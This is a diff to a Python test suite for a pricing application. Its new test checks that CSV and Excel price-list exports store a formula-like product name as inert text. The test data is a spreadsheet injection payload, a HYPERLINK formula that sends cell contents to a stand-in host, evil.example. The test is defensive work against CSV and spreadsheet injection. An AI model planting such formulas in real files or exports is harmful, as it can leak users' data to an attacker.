@@ -417,6 +417,8 @@ def test_the_rule_form_says_which_rules_already_apply_and_how_they_combine(shop)
     edit = http.get(f"/pricing/rules/{summer}/edit").text
     assert "“Summer” is exclusive: when it applies, no other discount does." in edit
     assert "Kalina only" in edit[edit.index('data-testid="overlaps"') :]
+
+
 def test_a_representative_sees_no_rule_of_a_client_she_may_not_see(shop):
     """A fixed price negotiated with Peter's client is his client's business: Maria sees it
     neither in the list page (where it was labelled "For: everyone") nor in the API, filtered by
@@ -447,3 +449,19 @@ def test_a_representative_sees_no_rule_of_a_client_she_may_not_see(shop):
     # The manager sees it, for its client, never as "everyone".
     row = logged_in(shop, "georgi").get("/pricing/rules").text.split("Kalina fixed")[1]
     assert "Kalina" in row.split("</tr>")[0] and "everyone" not in row.split("</tr>")[0]
+
+
+def test_price_list_files_carry_formula_like_names_as_text(shop):
+    name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with shop.app_context():
+        product = db_session.scalars(select(Product).where(Product.code == "PAP-A4")).one()
+        product.name = name
+        db_session.commit()
+    http = logged_in(shop, "maria")
+    with time_machine.travel(NOW, tick=False):
+        text = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.csv").text
+        xlsx = http.get(f"/pricing/clients/{shop.ids.bioprom}/price-list.xlsx").data
+    assert "'" + name in [cells[2] for cells in csv.reader(io.StringIO(text)) if len(cells) > 2]
+    cells = [cell for row in load_workbook(io.BytesIO(xlsx)).active.iter_rows() for cell in row]
+    written = next(cell for cell in cells if cell.value == name)
+    assert written.data_type == "s"  # a string, which Excel shows; not a formula it would run
